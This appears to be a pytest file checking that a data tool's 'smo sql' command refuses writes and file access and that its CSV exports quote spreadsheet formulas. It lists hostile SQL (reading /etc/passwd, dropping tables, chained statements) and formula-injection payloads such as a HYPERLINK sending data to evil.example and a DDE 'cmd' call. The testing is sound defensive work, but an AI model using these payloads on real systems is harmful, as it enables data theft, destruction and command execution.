"""`smo sql` is read-only for real, and CSV outputs cannot carry formulas (issue 16).

Against the real stores: the embedded DuckDB file and this machine's PostgreSQL, queried through the
`smo sql` command as a user runs it. Every hostile statement ends in one line and leaves the store (and the
file system) as it was. The CSV writers (`smo sql --format csv`, dataset.csv from a real export,
quarantine.csv from a real launch) quote every cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import secrets
from pathlib import Path

import pandas as pd
import psycopg
import pytest
from typer.testing import CliRunner
from warehouse_data import PG_SERVER, owned_database, synthetic_workspace

from smo_labelstudio.cli import app
from smo_labelstudio.core.csvcells import safe_cell
from smo_labelstudio.core.postgres import PgUrl
from smo_labelstudio.core.spec import load_spec
from smo_labelstudio.core.workspace import Workspace, write_parquet
from smo_labelstudio.warehouse import publish as wh
from smo_labelstudio.warehouse.tables import build_tables

REPO = Path(__file__).resolve().parents[2]
TITLE = "Hostile SQL"
HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULAS = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\uff1dSUM(A1)"]


def _spec(tmp_path: Path) -> Path:
    spec = tmp_path / "spec.yaml"
    text = (REPO / "specs" / "example.yaml").read_text()
    assert "title: Text moderation - example batch" in text
    spec.write_text(text.replace("title: Text moderation - example batch", f"title: {TITLE}"))
    return spec


def _tables(tmp_path: Path) -> dict[str, pd.DataFrame]:
    """The synthetic project's tables, one task's external id a formula."""
    ws = synthetic_workspace(tmp_path / "source")
    tables = build_tables(ws, load_spec(REPO / "specs" / "example.yaml"))
    tables["tasks"].loc[tables["tasks"]["external_id"] == "t1", "external_id"] = HOSTILE_ID
    return tables


def _one_line_error(result) -> str:
    assert result.exit_code == 1, (result.exit_code, result.stdout, result.stderr)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    return lines[0]


# --- DuckDB -------------------------------------------------------------------------------------


@pytest.fixture
def duck(tmp_path):
    """A published embedded store where `smo sql --spec` finds it; (run `smo sql`, the store's file)."""
    spec = _spec(tmp_path)
    home = tmp_path / "home"
    ws = Workspace.for_title(TITLE, home)
    ws.root.mkdir(parents=True, exist_ok=True)
    wh.publish(ws, None, wh.target(ws), tables=_tables(tmp_path))
    runner = CliRunner()

    def run(*args: str):
        return runner.invoke(app, ["sql", "--spec", str(spec), *args], env={"SMO_HOME": str(home)})

    return run, wh.embedded_path(ws)


def test_duckdb_refuses_files_extensions_settings_and_writes_with_one_line(duck, tmp_path):
    run, store = duck
    outside = tmp_path / "outside.csv"
    before = store.read_bytes()
    hostile = [
        "select * from read_csv('/etc/passwd')",
        "select * from read_text('/etc/passwd')",
        "select * from '/etc/passwd'",
        "select * from glob('/*')",
        f"copy tasks to '{outside}'",
        f"export database '{tmp_path / 'dump'}'",
        f"attach '{tmp_path / 'other.duckdb'}' as other",
        "install httpfs",
        "load httpfs",
        "set enable_external_access = true",
        "reset enable_external_access",
        "set lock_configuration = false",
        "pragma threads = 1",
        "create table t (x int)",
        "insert into tasks (project) values ('x')",
        "drop table tasks",
        "create view v as select 1",
        "select 1; drop table tasks",
    ]
    for statement in hostile:
        _one_line_error(run(statement))
    assert not outside.exists() and not (tmp_path / "dump").exists() and not (tmp_path / "other.duckdb").exists()
    assert store.read_bytes() == before
    ok = run("select count(*) as n from tasks", "--format", "json")
    assert ok.exit_code == 0 and json.loads(ok.stdout) == [{"n": 4}], ok.stderr
    assert "UTC" in run("select current_setting('TimeZone') as tz").stdout  # set before the lock


# --- PostgreSQL ---------------------------------------------------------------------------------


@pytest.fixture
def pg(tmp_path):
    """A database owned by a role that can write it (not a superuser), the project published there by that
    role; yields (the owner's URL, a superuser's URL to the same database)."""
    name = f"smo_sql_{secrets.token_hex(4)}"
    with owned_database(name) as url:
        ws = Workspace(tmp_path / "ws" / "hostile-sql")
        wh.publish(ws, None, wh.target(ws, url), tables=_tables(tmp_path))
        yield url, f"{PG_SERVER}/{name}"


def _pg_count(url: str) -> int:
    with psycopg.connect(PgUrl.parse(url).conninfo()) as conn:
        row = conn.execute("select count(*) from smo.tasks").fetchone()
    return row[0] if row else -1


@pytest.mark.postgres
def test_postgres_runs_one_read_only_statement_from_smo_warehouse_url(pg, tmp_path):
    url, superuser_url = pg
    runner = CliRunner()

    def run(*args: str, env_url: str = url):
        return runner.invoke(app, ["sql", *args], env={"SMO_WAREHOUSE_URL": env_url, "SMO_HOME": str(tmp_path)})

    ok = run("select count(*) as n from tasks", "--format", "json")  # no --url: SMO_WAREHOUSE_URL
    assert ok.exit_code == 0 and json.loads(ok.stdout) == [{"n": 4}], ok.stderr
    copied = Path("/tmp") / f"{PgUrl.parse(url).dbname}.csv"  # the server's own file system
    hostile = {
        "commit; drop table tasks": "multiple commands",
        "set transaction read write; delete from tasks": "multiple commands",
        "drop table tasks": "read-only transaction",
        "delete from tasks": "read-only transaction",
        "insert into tasks (project) values ('x')": "read-only transaction",
        "create temp table t (x int)": "read-only transaction",
        "create table t (x int)": "read-only transaction",
        "do $$ begin execute 'drop table smo.tasks'; end $$": "read-only transaction",
        "set transaction read write": "before any query",
        "begin read write": "before any query",
        "with c as (select set_config('transaction_read_only', 'off', true)) select * from c": "before any query",
        "select pg_read_file('/etc/passwd')": "permission denied",
        f"copy tasks to '{copied}'": "pg_write_server_files",
    }
    for statement, why in hostile.items():
        line = _one_line_error(run(statement))
        assert why in line, (statement, line)
    # statements that only change this one session's settings succeed, then the session ends: a write after
    # them (in the same call, the only way to reach that session) is two statements, refused above
    for statement in ("set session characteristics as transaction read write", "commit"):
        assert run(statement).exit_code == 0, statement
        _one_line_error(run("delete from tasks"))
    assert not copied.exists()
    assert _pg_count(url) == 4
    # a superuser reads the server's files whatever the transaction: refused before any query runs
    line = _one_line_error(run("select pg_read_file('/etc/passwd')", env_url=superuser_url))
    assert "a superuser" in line and "root" in line, line
    # so is a role that can SET ROLE to one that reads them, though it does not inherit its rights
    with psycopg.connect(PgUrl.parse(superuser_url).conninfo(), autocommit=True) as conn:
        owner = PgUrl.parse(url).user
        conn.execute(f'alter role "{owner}" noinherit')
        conn.execute(f'grant pg_read_server_files to "{owner}"')
    line = _one_line_error(run("select 1"))
    assert "pg_read_server_files" in line and owner in line, line
    # --url wins over SMO_WAREHOUSE_URL, and a password in either never reaches the message
    for args, env_url in (
        (("select 1", "--url", "postgresql://u:s3cret@127.0.0.1:1/db"), url),
        (("select 1",), "postgresql://u:s3cret@127.0.0.1:1/db"),
    ):
        line = _one_line_error(run(*args, env_url=env_url))
        assert "cannot connect" in line and "s3cret" not in line, line


# --- CSV cells ----------------------------------------------------------------------------------


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_smo_sql_csv_quotes_formula_text_and_keeps_numbers(duck):
    run, _ = duck
    out = run(
        "select '=1+1' as f, -3.5 as n, '-3.5' as s, '@SUM(A1)' as a, chr(9) || 'x' as t, '+1' as p, 'ok' as o",
        "--format",
        "csv",
    )
    assert out.exit_code == 0, out.stderr
    assert _csv(out.stdout) == [
        ["f", "n", "s", "a", "t", "p", "o"],
        ["'=1+1", "-3.5", "'-3.5", "'@SUM(A1)", "'\tx", "'+1", "ok"],
    ]
    rows = _csv(run("select external_id from tasks order by external_id", "--format", "csv").stdout)
    assert ["'" + HOSTILE_ID] in rows
    raw = json.loads(run("select external_id from tasks", "--format", "json").stdout)
    assert {"external_id": HOSTILE_ID} in raw  # JSON keeps the value as it is
    assert [safe_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [safe_cell(v) for v in ("ok", "'=x", " =x", 3, -3.5, None)] == ["ok", "'=x", " =x", 3, -3.5, None]


def test_dataset_csv_quotes_formula_text_parquet_and_jsonl_keep_it(tmp_path):
    from smo_labelstudio.export.dataset import export_workspace
    from smo_labelstudio.quality.check import compute_check, load_inputs
    from smo_labelstudio.quality.tables import save_quality_tables

    ws = synthetic_workspace(tmp_path)
    plan = ws.runs / "abc123def456" / "plan.parquet"
    items = pd.read_parquet(plan)
    items.loc[items["external_id"] == "t1", "text"] = "=cmd|' /C calc'!A0"
    items.loc[items["external_id"] == "t2", "text"] = "-1+1"
    write_parquet(plan, items)
    spec = load_spec(REPO / "specs" / "example.yaml")
    inputs = load_inputs(ws)
    result = compute_check(inputs["labels"], inputs["gold"], spec.quality, cancelled=inputs["cancelled"], n_boot=20)
    save_quality_tables(ws, result)
    out = tmp_path / "out"
    export_workspace(ws, spec, out)
    rows = {r["external_id"]: r for r in csv.DictReader((out / "dataset.csv").open(encoding="utf-8", newline=""))}
    assert rows["t1"]["text"] == "'=cmd|' /C calc'!A0" and rows["t2"]["text"] == "'-1+1"
    assert float(rows["t1"]["confidence"]) > 0 and rows["t1"]["model_severity"] == "3"  # numbers stay numbers
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows.values() for v in r.values() if v)
    parquet = pd.read_parquet(out / "dataset.parquet").set_index("external_id")
    assert parquet.loc["t1", "text"] == "=cmd|' /C calc'!A0"
    jsonl = {r["external_id"]: r for r in map(json.loads, (out / "dataset.jsonl").read_text().splitlines())}
    assert jsonl["t2"]["text"] == "-1+1"


def test_quarantine_csv_from_a_real_launch_plan_quotes_a_hostile_row(label_studio, tmp_path):
    """The launch's plan against the real Label Studio (the project made, the rows read and checked): the
    refused row reaches quarantine.csv with its cells quoted."""
    from smo_labelstudio.ingest.launch import plan_launch

    data = tmp_path / "items.csv"
    hostile_text = '=HYPERLINK("http://evil.example","open")'
    data.write_text(
        "id,text,language\n"
        "a1,a perfectly ordinary comment,en\n"
        "a2,another ordinary comment about cats,en\n"
        f'@evil,"{hostile_text.replace(chr(34), chr(34) * 2)}",xx\n',
        encoding="utf-8",
    )
    home = tmp_path / "home"
    plan = plan_launch(load_spec(_spec(tmp_path)), data, label_studio.url, label_studio.token, home=home)
    assert plan.counts["quarantined"] == 1, plan.counts
    rows = list(csv.DictReader(plan.workspace.quarantine.open(encoding="utf-8", newline="")))
    assert len(rows) == 1 and rows[0]["external_id"] == "'@evil", rows
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in rows[0].values() if v), rows


def test_quality_compute_consensus_csv_quotes_a_formula_label(tmp_path):
    """Labels are free text in Label Studio: `smo quality compute --out` writes consensus.csv quoted."""
    annotations = tmp_path / "a.csv"
    annotations.write_text(
        "task,annotator,label\n" + "".join(f"t{t},a{a},=1+1\n" for t in range(3) for a in range(3)), encoding="utf-8"
    )
    result = CliRunner().invoke(app, ["quality", "compute", "--annotations", str(annotations), "--out", str(tmp_path)])
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader((tmp_path / "consensus.csv").open(encoding="utf-8", newline="")))
    assert [r["label"] for r in rows] == ["'=1+1"] * 3, rows
    assert all(float(r["confidence"]) > 0 for r in rows)


def test_smo_sql_table_shows_control_characters_as_escapes(duck):
    """A hostile cell cannot clear, recolour or retitle the analyst's terminal, nor break the table."""
    run, _ = duck
    out = run("select 'a' || chr(27) || '[2J' || chr(10) || 'b' || chr(155) as \"x\u001b]0;t\u0007\"")
    assert out.exit_code == 0, out.stderr
    assert "\x1b" not in out.stdout and "\x9b" not in out.stdout and "\x07" not in out.stdout, repr(out.stdout)
    assert "a\\x1b[2J\\nb\\x9b" in out.stdout and "x\\x1b]0;t\\x07" in out.stdout, out.stdout
    assert out.stdout.splitlines()[-1] == "(1 row)"
